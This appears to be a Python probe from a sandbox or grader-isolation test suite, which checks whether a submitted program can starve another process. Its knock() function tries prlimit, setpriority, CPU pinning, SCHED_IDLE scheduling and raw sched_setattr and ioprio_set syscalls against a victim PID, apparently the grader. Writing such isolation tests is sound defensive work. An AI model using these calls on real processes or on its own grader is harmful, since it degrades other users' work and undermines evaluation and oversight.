"""60: take priority, processors and resources away from another process.

A naive grader is itself the process that gets slower and runs out of descriptors.
expect: knock error | failed
hole: system_calls
"""

import ctypes
import os
import platform
import resource
import struct

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    if platform.machine() != "x86_64":
        raise OSError("these are the numbers of another machine")
    result = LIBC.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return result


def knock():
    victim = TARGET["victim"]
    ways = {
        "prlimit": lambda: resource.prlimit(victim, resource.RLIMIT_NOFILE, (50, 50)),
        "setpriority": lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
        "sched_setaffinity": lambda: os.sched_setaffinity(victim, {0}),
        "sched_setscheduler": lambda: os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0)),
        "sched_setattr": lambda: syscall(314, victim, struct.pack("IIQiIQQQ", 48, 3, 0, 19, 0, 0, 0, 0), 0),
        "ioprio_set": lambda: syscall(251, 1, victim, 3 << 13),  # only when the disk is idle
    }
    for name, way in ways.items():
        try:
            way()
            print("HOLE", name)
        except OSError as error:
            print(name, error)
    return "no"
